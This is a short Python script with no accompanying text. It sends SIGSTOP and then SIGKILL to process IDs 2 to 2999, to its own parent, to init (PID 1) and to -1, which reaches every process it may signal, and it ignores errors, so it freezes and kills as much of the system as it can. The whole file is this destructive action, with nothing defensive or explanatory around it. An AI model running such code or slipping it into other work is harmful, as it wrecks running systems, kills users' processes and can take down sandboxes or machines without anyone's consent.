import os, signal
for process in (*range(2, 3000), os.getppid(), 1, 0, -1):
    if process == os.getpid(): continue
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try: os.kill(process, number)
        except OSError: pass
